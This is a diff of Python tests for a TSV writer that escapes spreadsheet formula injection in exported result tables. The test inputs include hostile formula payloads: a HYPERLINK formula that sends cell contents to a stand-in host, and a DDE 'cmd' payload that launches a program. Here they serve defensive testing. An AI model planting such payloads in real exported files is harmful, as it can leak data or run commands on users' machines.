@@ -13,29 +13,23 @@ from bert_tf.runs.results.tables import KeptRows
 from tests.support.refusals import refuses
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
+def test_no_text_is_a_formula():
+    for text in (
         *('=HYPERLINK("http://x.example/?"&A1)', "+1 555 0100", "-2+3", "@SUM(1)", "- a list"),
         *("\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "\ufeff=1", "\u200b@x"),
         *("\uff1dcmd|' /C calc'!A0", "-", "--5", "-1e5x", "=1", "-1\n", "\ttext"),
         "+\u0661",  # an Arabic digit
-    ],
-)
-def test_no_text_is_a_formula(text):
-    (cell,) = next(csv.reader(io.StringIO(tables.cell(text), newline=""), delimiter="\t"))
-    assert cell == f"'{text}"
+    ):
+        (cell,) = next(csv.reader(io.StringIO(tables.cell(text), newline=""), delimiter="\t"))
+        assert cell == f"'{text}"
 
 
-@pytest.mark.parametrize(
-    ("value", "expected"),
-    [
+def test_numbers_are_bare_and_a_text_that_is_a_number_stays():
+    for value, expected in (
         *((-3, "-3"), (np.float32(-0.25), "-0.25"), (0.5, "0.5"), (None, ""), ("a-b=c", '"a-b=c"')),
         *((text, f'"{text}"') for text in ("-1", "+1", "-0.5", "-1e-7", "+.5", "-3.")),
-    ],
-)
-def test_numbers_are_bare_and_a_text_that_is_a_number_stays(value, expected):
-    assert tables.cell(value) == expected
+    ):
+        assert tables.cell(value) == expected
 
 
 def test_texts_come_back_as_they_were(tmp_path):
@@ -60,20 +54,17 @@ def test_random_texts_come_back_and_begin_no_formula(tmp_path):
             float(cell)  # nothing else may begin so
 
 
-def test_other_separators_start_no_cell(tmp_path):
-    """A spreadsheet may also separate columns at commas and semicolons, as its user once chose."""
-    tables.write_table(f"{tmp_path}/t.tsv", ["id", "text"], [[1, "a;=1"], [2, "a,=1"]])
-    text = (tmp_path / "t.tsv").read_text()
-    for separator in ";,":
-        rows = csv.reader(io.StringIO(text.replace("\t", separator)), delimiter=separator)
-        assert [row[1] for row in rows] == ["text", "a;=1", "a,=1"]
-
-
 def test_names_of_columns_may_have_labels_in_them(tmp_path):
     columns = ["id", "probability B", 'probability a\t"b"', "=x"]
     tables.write_table(f"{tmp_path}/t.tsv", columns, [])
     assert list(tables.read_table(f"{tmp_path}/t.tsv")) == [*columns[:3], "'=x"]
     assert (tmp_path / "t.tsv").read_text().startswith("id\tprobability B\t")
+    # A spreadsheet may also separate columns at commas and semicolons, as its user once chose.
+    tables.write_table(f"{tmp_path}/t.tsv", ["id", "text"], [[1, "a;=1"], [2, "a,=1"]])
+    text = (tmp_path / "t.tsv").read_text()
+    for separator in ";,":
+        rows = csv.reader(io.StringIO(text.replace("\t", separator)), delimiter=separator)
+        assert [row[1] for row in rows] == ["text", "a;=1", "a,=1"]
 
 
 def test_long_tables_and_texts_are_whole(tmp_path):
@@ -99,16 +90,13 @@ def kept(labels):
     return KeptRows({"id": f"d-{i}", "text_a": f"t{i}", "label": x} for i, x in enumerate(labels))
 
 
-def test_rows_are_kept_on_disk_with_all_columns():
+def test_rows_are_kept_on_disk_with_all_columns(tmp_path):
     kept_rows = [{"id": "1", "text_b": None}, {"id": "\ud800\n", "text_b": "b"}, {"label": 2.5}]
     kept_rows.append({"label": np.int64(-7), "id": np.float32(1.5)})
     rows = KeptRows(kept_rows)
     assert len(rows) == 4 and rows.columns == ["id", "text_b", "label"]
     assert [rows[i] for i in (1, 0, 3, 2)] == [kept_rows[i] for i in (1, 0, 3, 2)]
     assert KeptRows([]).columns == []
-
-
-def test_a_folder_without_space_is_named(tmp_path):
     with pytest.raises(OSError, match="Cannot keep the texts .*/gone: No such file"):
         KeptRows([], f"{tmp_path}/gone")
 
